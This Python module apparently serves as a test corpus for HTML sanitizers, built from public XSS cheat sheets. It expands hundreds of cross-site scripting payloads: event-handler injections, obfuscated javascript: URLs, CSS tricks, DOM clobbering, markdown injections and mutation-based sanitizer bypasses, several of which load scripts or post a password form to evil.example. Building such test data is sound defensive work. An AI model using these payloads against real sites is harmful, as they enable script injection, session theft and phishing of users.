# ruff: noqa: E501 - An attack stays on one line, as it was found.
"""Attacks on whoever shows a body, gathered from public collections and written down anew.

Which strings run a script somewhere is a fact; the arrangement here is our own. Sources, with the licences of their texts:

- OWASP's XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0), after RSnake's;
- html5sec.org, the HTML5 Security Cheatsheet of Cure53 (MPL 2.0);
- the fixtures of DOMPurify (MPL 2.0 or Apache 2.0), and the write-ups of its bypasses by Securitum, PortSwigger and others;
- PortSwigger's cross-site scripting cheat sheet, for its names of events, elements and schemes.

Each calls `alert(1)` where it would run. What names another host names `evil.example`, which nobody has.
"""

from itertools import product

_EVENTS = """
onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce
oncancel oncanplay oncanplaythrough onchange onclick onclose oncontentvisibilityautostatechange oncontextmenu oncopy
oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onend
onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput
oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onmessage onmousedown onmouseenter
onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying
onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate
onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch
onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onstart onsubmit onsuspend
ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun
ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationstart onwebkittransitionend onwheel
"""
_EVENT_HOLDERS = (
    "<img src=x {}=alert(1)>",
    "<a href=# id=x tabindex=1 style=animation:x {}=alert(1)>a</a>",
)

_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "&#14;  javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\x03script:alert(1)",
    "java\x00script:alert(1)",
    "jav\tascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "jav&Tab;ascript&colon;alert(1)",
    "&NewLine;javascript&colon;alert&lpar;1&rpar;",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)",
    "\u2028javascript:alert(1)",
    "&#xA0;javascript:alert(1)",
    "&#x200B;javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://evil.example/%250Aalert(1)",
    "java&#xe000;script:alert(1)",
    "\ue0001\ue001javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
)
ADDRESSES = _SCHEMES
"""What an address may be."""

_ADDRESS_HOLDERS = (
    '<a href="{}">a</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<svg><a xlink:href="{}"><text y=20>a</text></a></svg>',
)
_RARER_ADDRESS_HOLDERS = (
    '<form action="{}"><button>a</button></form>',
    '<button form=x formaction="{}">a</button>',
    '<input type=image src="{}">',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<video src="{}" poster="{}"></video>',
    '<audio src="{}"></audio>',
    '<table background="{}"><tr><td background="{}">a</table>',
    '<body background="{}">',
    '<img dynsrc="{}" lowsrc="{}" longdesc="{}">',
    '<img srcset="{} 1x">',
    '<link rel=stylesheet href="{}">',
    '<link rel=import href="{}">',
    '<base href="{}//">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<frameset><frame src="{}"></frameset>',
    '<math><maction actiontype=statusline xlink:href="{}">a</maction></math>',
    '<area href="{}">',
    '<blockquote cite="{}">a</blockquote>',
    '<a ping="{}" href=/x>a</a>',
    '<isindex action="{}" type=submit>',
    '<xml src="{}">',
    '<bgsound src="{}">',
    '<applet codebase="{}">',
    '<svg><use href="{}"></use></svg>',
    '<svg><image href="{}"></image></svg>',
    '<svg><script href="{}"></script></svg>',
    '<svg><animate attributeName=href values="{}"></animate></svg>',
    '<script src="{}"></script>',
)

_ELEMENTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>
<SCRIPT SRC=//evil.example/.j>
<SCRIPT SRC=https://evil.example/x.js?< B >
<<SCRIPT>alert(1);//\<</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script<{alert(1)}/></script </>
<b <script>alert(1)//</script>0</script></b>
<b><script<b></b><alert(1)</script </b></b>
</script><script>alert(1)</script>
</TITLE><SCRIPT>alert(1);</SCRIPT>
</textarea><script>alert(1)</script>
<script xmlns="http://www.w3.org/1999/xhtml">&#x61;lert(1)</script>
<script type=module>alert(1)</script>
<script>/*<!--*/alert(1)/*--></script>
<IMG SRC= onmouseover="alert(1)">
<IMG SRC=/ onerror="alert(1)"></img>
<img/src=x/onerror=alert(1)>
<img src onerror /" '"= alt=alert(1)//">
<img src=x id/=' onerror=alert(1)//'>
<img src=x:x onerror=&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>
<img src="x` `<script>alert(1)</script>"` `>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<IMG SRC="`<javascript:alert>`(1)"
<image src=x onerror=alert(1)>
<video><source onerror="alert(1)">
<video onerror="alert(1)"><source></source></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert(1)>
<body/onpageshow=alert(1)>
<frameset onload=alert(1)>
<input onfocus=alert(1) autofocus>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>a
<dialog open onclose=alert(1)><form method=dialog><button>a</button></form></dialog>
<div popover id=x onbeforetoggle=alert(1)>a</div><button popovertarget=x>a</button>
<marquee onstart=alert(1)>a</marquee>
<div style=width:1px;filter:glow onfilterchange=alert(1)>a</div>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><g onload=alert(1)></g></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><desc><iframe srcdoc="<script>alert(1)</script>"></iframe></desc></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;svg onload=alert(1)&gt;"></iframe>
<iframe src=https://evil.example/ <
<iframe onload=alert(1) src=https://youtu.be/abcdefghijk></iframe>
<iframe src=https://youtu.be/abcdefghijk><p></iframe><img src=x onerror=alert(1)>
<object data=https://evil.example/x.swf type=application/x-shockwave-flash><param name=AllowScriptAccess value=always></object>
<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>
<embed src=//evil.example/x.swf allowscriptaccess=always>
<form id=x></form><button form=x formaction=javascript:alert(1)>a</button>
<form><button formaction=javascript:alert(1)>a</button>
<form action=https://evil.example/ method=post><input type=password name=p><input type=submit></form>
<form><input name=attributes><input name=parentNode><input name=removeChild onfocus=alert(1) autofocus></form>
<img name=getElementById><img name=cookie><a id=location href=#x>a</a>
<form id=x name=body><output name=innerHTML>
<a id=defaultView href=javascript:alert(1)><a id=defaultView name=fetch href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preload as=script href=//evil.example/x.js>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0; url=//evil.example/">
<meta http-equiv=Set-Cookie content="USERID=x">
<META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-alert(1)+ADw-/SCRIPT+AD4-
<base href=//evil.example/>
<base target=_top><a href=/x>a</a>
<a href=/x target=_blank rel=opener>a</a>
<?xml-stylesheet href="javascript:alert(1)"?><root/>
<?php echo('<script>alert(1)</script>');?>
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<![><img src="]><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!---!><img src=x onerror=alert(1)>
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<!DOCTYPE x[<!ENTITY x SYSTEM "https://evil.example/x">]><y>&x;</y>
<x '="foo"><x foo='><img src=x onerror=alert(1)//'>
<x contenteditable onblur=alert(1)>a</x>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<a\nhref="javascript:alert(1)">a</a>
<a href=javascript:alert(1)//>a</a>
\<a onmouseover="alert(1)"\>a\</a\>
<p id='"><script>alert(1)</script>'>a</p>
<pre class='language-"><script>alert(1)</script>'>a</pre>
<h2 id="x' onclick=alert(1) y='">a</h2>
<time datetime='"><img src=x onerror=alert(1)>'>a</time>
<ol start='"><img src=x onerror=alert(1)>'><li>a</ol>
<td colspan='"><img src=x onerror=alert(1)>'>a</td>
<p dir='"><img src=x onerror=alert(1)>' lang='"><img src=x onerror=alert(1)>'>a</p>
<aside data-note='"><img src=x onerror=alert(1)>'>a</aside>
<p data-embed='"><img src=x onerror=alert(1)>'><a href=https://youtu.be/abcdefghijk>a</a></p>
<div data-raw='<img src=x onerror=alert(1)>'><img src=x onerror=alert(1)></div>
<div data-raw><script>alert(1)</script><style>@import '//evil.example/x.css';</style></div>
<div data-hx-get=//evil.example/ data-hx-trigger=load x-data=alert(1) ng-app>{{constructor.constructor('alert(1)')()}}</div>
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"`/+/onmouseover=1/+/[*/[]/+alert(1);//'>
'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=alert(1)>
"><img src=x onerror=alert(1)>
' onmouseover=alert(1) x='
`onmouseover=alert(1)`
"""
_STYLES = r"""
<style>@import '//evil.example/x.css';</style>
<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>a
<style>*{x:expression(alert(1))}</style>
<style>body{-moz-binding:url("//evil.example/x.xml#x")}</style>
<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x}</style>
<style>a[href^="/x"]{background:url(//evil.example/x)}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<STYLE TYPE="text/javascript">alert(1);</STYLE>
<b><style><style/><img src=x onerror=alert(1)>
<b><style><style////><img src=x onerror=alert(1)></style>
<p style="background:url(//evil.example/x)">a</p>
<p style="background-image:url(javascript:alert(1))">a</p>
<p style="width:expression(alert(1))">a</p>
<p style="x:\65\78\70\72\65\73\73\69\6f\6e(alert(1))">a</p>
<p style="behavior:url(//evil.example/x.htc)">a</p>
<p style="-moz-binding:url(//evil.example/x)">a</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">a</p>
<p style="list-style:url(//evil.example/x)">a</p>
<p style="content:url(//evil.example/x)">a</p>
<p style="cursor:url(//evil.example/x),auto">a</p>
<p style="font-family:'x';background:url('//evil.example/x')">a</p>
<p style="color:red;/*" onclick="*/alert(1)">a</p>
<p style='color:"</p><img src=x onerror=alert(1)>'>a</p>
<a style="-o-link:'javascript:alert(1)';-o-link-source:current">a</a>
<x style="behavior:url(#default#time2)" onbegin=alert(1)>
<div style="{background:url(//evil.example/x)}">a</div>
<table style="@import '//evil.example/x.css'"><tr><td>a</table>
"""
_MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>
<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>
<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>
<textarea>a</textarea><!--</textarea><img src=x onerror=alert(1)>-->
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<option><iframe></select><b><script>alert(1)</script>
<select><noembed></select><script>x='<img src=x onerror=alert(1)>'</script>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>"></a>
<body><template><s><template><s><img src=x onerror=alert(1)>a</s></template></s></template>
<template><svg><style><a id="</style><img src=x onerror=alert(1)>"></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>
<math><mtext><mglyph><style><img src=x onerror=alert(1)>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">
<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>
<math><annotation-xml encoding=text/html><xmp></annotation-xml><img src=x onerror=alert(1)></xmp>
<math><style><!--</style><img src=x onerror=alert(1)>--></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math></p><style><!--</style><img src/onerror=alert(1)>
<math><br><style><!--</style><img src/onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>
<svg><![CDATA[><image xlink:href="]]><img src=x:x onerror=alert(1)//"></svg>
<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></desc></svg>
<svg><foreignObject><math><mtext><style><img title="</style><img src=x onerror=alert(1)>"></foreignObject></svg>
<svg><a><svg><p title="</a><img src=x onerror=alert(1)>"></svg></a></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><input name=nextSibling><form><svg><style><img src=x onerror=alert(1)></style></svg></form>
<table><caption><svg><title><template><style></title></template><img src=x onerror=alert(1)></style></svg></caption></table>
<table><tr><td><svg><desc><td></desc><style><a title="</style><img src=x onerror=alert(1)>"></table>
<table><colgroup><svg><style><img title="</style><img src=x onerror=alert(1)>"></colgroup></table>
<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></p></svg></p>
<a><table><a title="</a><img src=x onerror=alert(1)>"></table></a>
<b><p><b><p title="</b><img src=x onerror=alert(1)>">a
<h1><h2><svg><style><h1 title="</style><img src=x onerror=alert(1)>">
<dl><dt><svg><style><dd title="</style><img src=x onerror=alert(1)>"></dl>
<ruby><rt><math><style><rp title="</style><img src=x onerror=alert(1)>"></ruby>
<x xmlns="><iframe onload=alert(1)">a</x>
<p title="`><img src=x onerror=alert(1)>`">a</p>
<a href=//evil.example/#x=`y></a><img alt="`><img src=x:x onerror=alert(1)></a>">
<div id=d><div style="font-family:'a\27\2F\2A\22\2A\2F\3B color\3Ared\3B'">a</div></div>
<p>&lt;img src=x onerror=alert(1)&gt;</p>
<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>
<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>
<img alt="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;" src=x>
<img src="x" title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>
"""
_MARKDOWN = r"""
[a](javascript:alert(1))
[a](<javascript:alert(1)>)
[a](  javascript:alert(1) "b")
[a](java&#10;script:alert(1))
[a](java&Tab;script&colon;alert(1))
[a](&#x6A;avascript:alert(1))
[a](JAVASCRIPT:alert%281%29)
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a](vbscript:alert(1))
[a](\u0001javascript:alert(1))
[a](javascript&#58;alert(1))
[a](//evil.example/%0Ajavascript:alert(1) 'x" onclick="alert(1)')
![a](javascript:alert(1))
![a"onerror="alert(1)](x)
![a](x"onerror="alert(1))
![a](x "b\"onerror=alert(1) x=\"")
![<img src=x onerror=alert(1)>](x)
![`<script>alert(1)</script>`](x '"><script>alert(1)</script>')
[<img src=x onerror=alert(1)>](x)
[a]: javascript:alert(1)\n\n[a]
<javascript:alert(1)>
<javascript&colon;alert(1)>
`<script>alert(1)</script>`
``` "><script>alert(1)</script>\na\n```
```x"onclick=alert(1)\na\n```
~~~ <img/src=x/onerror=alert(1)>\na\n~~~
|<img src=x onerror=alert(1)>|\n|---|\n|<script>alert(1)</script>|
# <img src=x onerror=alert(1)> {#x onclick=alert(1)}
a[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: b
> <script>\n\nalert(1)</script>
- <img src=x\n  onerror=alert(1)>
<div\n\nonclick=alert(1)>
*<a href="javascript:alert(1)">a*</a>
"""


def _lines(text: str) -> list[str]:
    return [line.replace("\\n", "\n") for line in text.strip().split("\n")]


PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(line for text in (_ELEMENTS, _STYLES, _MUTATIONS, _MARKDOWN) for line in _lines(text)),
            '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
            *(holder.format(event) for event, holder in product(_EVENTS.split(), _EVENT_HOLDERS)),
            *(holder.replace("{}", address) for address, holder in product(_SCHEMES, _ADDRESS_HOLDERS)),
            *(holder.replace("{}", _SCHEMES[0]) for holder in _RARER_ADDRESS_HOLDERS),
        ]
    )
)
"""All of them, each once."""
